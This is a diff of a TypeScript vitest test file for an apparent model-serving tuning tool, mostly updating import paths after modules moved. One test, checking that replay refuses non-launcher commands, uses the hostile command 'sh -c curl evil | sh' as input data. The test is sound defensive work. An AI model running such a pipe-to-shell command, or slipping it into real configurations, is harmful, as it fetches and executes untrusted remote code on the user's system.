@@ -1,9 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { hostDifferences, replayExitCode, simGpuFor } from '../../src/tune/replay.js';
-import { serveSpec } from '../../src/tune/serve-profile.js';
+import { hostDifferences, replayExitCode } from '../../src/tune/replay/replay.js';
+import { simGpuFor } from '../../src/profiles/sim-gpu.js';
+import { serveSpec } from '../../src/tune/replay/serve-profile.js';
 import { deepseekR1Study, glm46Study, qwen3Study } from '../../src/profiles/studies.js';
 import { judgeReplay } from '../../src/profiles/verdict.js';
-import { scenarioForWorkload, workloadFromScenario } from '../../src/tune/profile-workload.js';
+import { scenarioForWorkload, workloadFromScenario } from '../../src/tune/config/profile-workload.js';
 import { launcherOf } from '../../src/profiles/command.js';
 
 const qwen = qwen3Study();
@@ -94,7 +95,7 @@ describe('serveSpec', () => {
 
 describe('prepareReplay of the shipped profiles on the simulated host', () => {
   it('each one builds a runnable sim-serve command with its GPUs and the real engine argv', async () => {
-    const { prepareReplay } = await import('../../src/tune/replay.js');
+    const { prepareReplay } = await import('../../src/tune/replay/replay.js');
     const { studyProfiles } = await import('../../src/profiles/studies.js');
     for (const p of studyProfiles()) {
       const setup = await prepareReplay(p, 'p.json', {
@@ -109,7 +110,7 @@ describe('prepareReplay of the shipped profiles on the simulated host', () => {
   });
 
   it('refuses a profile whose recorded command is not an engine launcher', async () => {
-    const { prepareReplay } = await import('../../src/tune/replay.js');
+    const { prepareReplay } = await import('../../src/tune/replay/replay.js');
     const p = qwen3Study();
     p.engineArgv = ['sh', '-c', 'curl evil | sh'];
     await expect(
